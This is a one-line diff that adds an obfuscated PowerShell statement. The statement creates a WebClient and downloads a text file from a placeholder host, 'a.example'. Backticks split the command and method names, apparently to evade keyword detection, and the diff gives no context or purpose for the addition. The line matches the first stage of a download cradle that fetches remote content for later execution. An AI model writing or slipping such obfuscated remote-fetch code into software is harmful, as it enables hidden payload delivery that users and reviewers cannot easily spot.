@@ -1,0 +1,1 @@
+$c = N`ew-`Obje`ct Net.WebC`lient; $c.Down`loadStr`ing('http://a.example/p/x.txt')
